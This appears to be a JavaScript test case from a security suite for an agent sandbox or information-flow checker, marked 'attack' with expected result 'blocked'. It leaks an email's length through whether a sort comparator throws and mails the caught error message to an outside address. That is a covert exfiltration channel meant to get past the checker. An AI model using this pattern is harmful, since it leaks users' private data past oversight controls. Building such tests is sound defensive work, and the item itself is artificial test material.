// attack: whether a field comparator's copy throws natively depends on the email's length (data, through a field); the catch sends the error's message
// normal: blocked
const m = await getEmail('m1');
const xs = [{ x: m.body.length }, { x: 0 }];
let msg = 'none';
try {
  xs.sort((a, b, c) => (a.x > 3 ? c.x : b.x > 3 ? c.y : 0));
} catch (e) {
  msg = e.message;
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: msg });
